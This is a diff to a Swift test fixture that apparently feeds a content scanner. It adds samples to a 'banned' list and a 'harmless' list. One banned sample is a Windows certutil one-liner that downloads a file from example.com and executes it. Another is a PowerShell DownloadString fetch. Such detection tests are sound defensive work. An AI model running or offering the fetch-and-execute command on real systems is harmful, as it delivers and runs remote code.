@@ -107,6 +107,9 @@ extension BannedSamples {
             "Internet shortcut of a browser",
             text("[DEFAULT]\r\nBASEURL=x\r\n[InternetShortcut]\r\nURL=http://example.com/\r\n")
         ),
+        ("batch file of one command", text("certutil -urlcache -f http://example.com/x x.tmp & x.tmp\r\n")),
+        ("script that waits", text("If True Then WScript.Sleep 1000\r\n")),
+        ("PowerShell that fetches", text("$x = $y.DownloadString('http://example.com/')\r\n")),
         ("batch file behind a comment", text("REM x\r\n:: y\r\n@echo off\r\n")),
         ("Remote Desktop file", text("screen mode id:i:2\r\nfull address:s:example.com\r\n")),
         (
@@ -196,6 +199,7 @@ extension BannedSamples {
     static let harmlessContents: [(name: String, content: [UInt8])] = [
         ("notes.txt", text("Our PowerShell guide: open a console and type Get-Help. WScript is gone.\r\n")),
         ("setup.ini", text("[General]\r\nURL=http://example.com/\r\n[Shelly]\r\nCommand=2\r\n")),
+        ("guide.txt", text("Use the commands certutil, mshta and schtasks as the manual says.\r\n")),
         ("colours.ini", text("[Theme]\r\nDisplayName=x\r\nName=[VisualStyles]\r\n")),
         ("users.ini", text("ProfileName=x\r\n[Services]\r\n[Lists]\r\n")), ("oledb.txt", text("see [oledb] there\r\n")),
         ("pifex.txt", text("MICROSOFT PIFEX\r\n")), ("numbers.bin", padded([0x01, 0x06, 0x01, 0x00], 200)),
